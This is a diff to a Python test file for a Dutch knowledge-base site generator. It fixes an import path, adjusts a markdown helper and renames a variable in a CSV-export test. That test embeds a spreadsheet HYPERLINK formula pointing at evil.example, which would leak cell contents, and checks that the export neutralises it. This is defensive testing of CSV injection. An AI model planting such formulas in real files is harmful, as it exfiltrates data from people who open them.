@@ -16,10 +16,10 @@ from collections.abc import Callable
 
 import markdown
 import pytest
-from kb_testing import CASUS, STELLING, VERSLAG, generate, messages, source
 
 from generator import export, glossary, load, safe_markdown
 from generator.privacy import allowed, detectors, recall
+from tests.kb_testing import CASUS, STELLING, VERSLAG, generate, messages, source
 
 OTHERS = [source("stellingen/S01-a.yml", STELLING), source("verslagen/V01-a.yml", VERSLAG)]
 SECONDS = 2.0
@@ -140,8 +140,8 @@ def test_two_hundred_kilobytes_of_brackets_render_within_the_budget() -> None:
 
 
 def html(text: str) -> str:
-    return markdown.markdown(safe_markdown.safe_markdown(text),
-                             extensions=["toc", "tables", "admonition", "attr_list", "md_in_html", "abbr"])
+    return str(markdown.markdown(safe_markdown.safe_markdown(text),
+                                 extensions=["toc", "tables", "admonition", "attr_list", "md_in_html", "abbr"]))
 
 
 @pytest.mark.parametrize("text", [
@@ -174,11 +174,11 @@ def test_safe_links_stay_links() -> None:
 
 
 def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
-    titel = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
-    casus = source("casussen/C01-x.yml", CASUS.replace("titel: Een moeder tussen de regels", f"titel: '{titel}'"))
+    title = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    casus = source("casussen/C01-x.yml", CASUS.replace("titel: Een moeder tussen de regels", f"titel: '{title}'"))
     generated = generate(casus, *OTHERS)
     assert messages(generated) == []
     rows = list(csv.DictReader(io.StringIO(generated.pages["data/casussen.csv"])))
-    assert rows[0]["titel"] == "'" + titel
+    assert rows[0]["titel"] == "'" + title
     assert [export.neutralise_cell(c) for c in ("=1+1", "+31", "-2", "@SUM(A1)", "\tx", "\rx", "gewoon", "")] == [
         "'=1+1", "'+31", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "gewoon", ""]
